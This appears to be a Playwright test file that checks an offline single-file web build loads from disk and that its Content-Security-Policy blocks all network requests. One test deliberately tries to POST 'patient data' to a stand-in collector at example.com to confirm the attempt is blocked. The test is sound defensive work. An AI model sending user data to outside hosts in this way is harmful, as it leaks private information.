/**
 * The single-file build (dist-single/index.html, `npm run build:single`, part of `npm run build`) opened
 * from disk, as from a USB stick or an e-mail attachment: no server at all. The guard fixture (support.ts)
 * still fails the test on any request other than the file itself and the page's own blob:/data: URLs.
 */
import { readFileSync, readdirSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { resolve } from 'node:path';
import { pathToFileURL } from 'node:url';
import { test, expect } from './support';
import { unknownUrls } from './known-urls';

const FILE = resolve('dist-single/index.html');
const URL_ON_DISK = pathToFileURL(FILE).href;

// the guard compares requests with this base URL: only this very file may be read
test.use({ baseURL: URL_ON_DISK });

test('the single file works from file://: a sample, training, charts and a dropped CSV', async ({ app, page, guard }) => {
  await page.goto(URL_ON_DISK);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  expect(await page.evaluate(() => location.protocol)).toBe('file:');

  await app.loadSample('wdbc');
  await app.expectLoaded(569, 31);
  await expect(app.byTestId('target-select')).toHaveValue('diagnosis');
  await app.train();
  await app.expectWdbcResults();

  const csv = 'age,sex,y\n50,F,yes\n60,M,no\n55,F,no\n70,M,yes\n65,F,yes\n45,M,no\n52,F,no\n68,M,yes\n59,F,no\n61,M,yes\n';
  await app.dropFile('cohort.csv', Buffer.from(csv, 'utf8'));
  await app.expectLoaded(10, 3);
  await app.train();
  expect(await app.metric('metric-accuracy')).toBeGreaterThanOrEqual(0);

  // the samples came from the page itself, the worker from a blob: URL; nothing else was read
  expect(guard.requests.filter((r) => /samples\//.test(r.url))).toEqual([]);
  expect(guard.requests.filter((r) => r.url.startsWith('file:')).map((r) => r.url)).toEqual([URL_ON_DISK]);
});

test('the single file is self-contained, with a CSP that hashes its inline code and allows no connection', async ({ page, guard }) => {
  expect(readdirSync('dist-single')).toEqual(['index.html']);
  const html = readFileSync(FILE, 'utf8');
  // the markup outside the inline scripts (whose code holds the HTML the app exports, as strings)
  const scriptRe = /<script\b[^>]*>([\s\S]*?)<\/script>/g;
  const markup = html.replace(scriptRe, '');
  // nothing to load next to it: no script, style, worker, manifest or sample file
  expect(markup).not.toMatch(/<script\b[^>]*\bsrc=|<link\b[^>]*\brel="?(stylesheet|modulepreload|manifest)/);
  expect(html).not.toMatch(/engine\.worker[^"'`]*\.js/);
  expect(html).toContain('mean radius,mean texture');

  const csp = /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html)?.[1] ?? '';
  const directives = new Map(csp.split(';').map((d) => d.trim().split(/\s+/)).map(([name, ...sources]) => [name, sources]));
  expect(directives.get('default-src')).toEqual(["'none'"]);
  expect(directives.get('connect-src')).toEqual(["'none'"]);
  expect(directives.get('worker-src')).toEqual(['blob:']);
  expect(csp).not.toContain('unsafe-eval');
  expect(csp).not.toContain('unsafe-inline');
  // each inline script and style is allowed by its hash, and nothing else is
  const hash = (text: string) => `'sha256-${createHash('sha256').update(text, 'utf8').digest('base64')}'`;
  const scripts = [...html.matchAll(scriptRe)].map((m) => hash(m[1]));
  const styles = [...markup.matchAll(/<style\b[^>]*>([\s\S]*?)<\/style>/g)].map((m) => hash(m[1]));
  expect(scripts.length).toBeGreaterThan(0);
  expect(directives.get('script-src')).toEqual(scripts);
  expect(directives.get('style-src')).toEqual(styles);

  expect(unknownUrls(html, 'dist-single/index.html')).toEqual([]);

  // the policy holds in the browser: no request may leave the page, not even to a file next to it
  await page.goto(URL_ON_DISK);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  const blocked = await page.evaluate(async () => {
    const attempts = ['http://example.com/collect', new URL('samples/wdbc.csv', location.href).href];
    const outcomes = await Promise.all(attempts.map((url) => fetch(url, { method: url.startsWith('http') ? 'POST' : 'GET', body: url.startsWith('http') ? 'patient data' : undefined }).then(() => false, () => true)));
    return outcomes.every(Boolean);
  });
  expect(blocked).toBe(true);
  // the browser reported the blocked attempts; those reports are the expected outcome here, not failures
  expect(guard.cspViolations.length).toBeGreaterThan(0);
  guard.cspViolations.length = 0;
  expect(guard.requests.filter((r) => r.url.includes('example.com') || r.url.includes('samples/'))).toEqual([]);
});
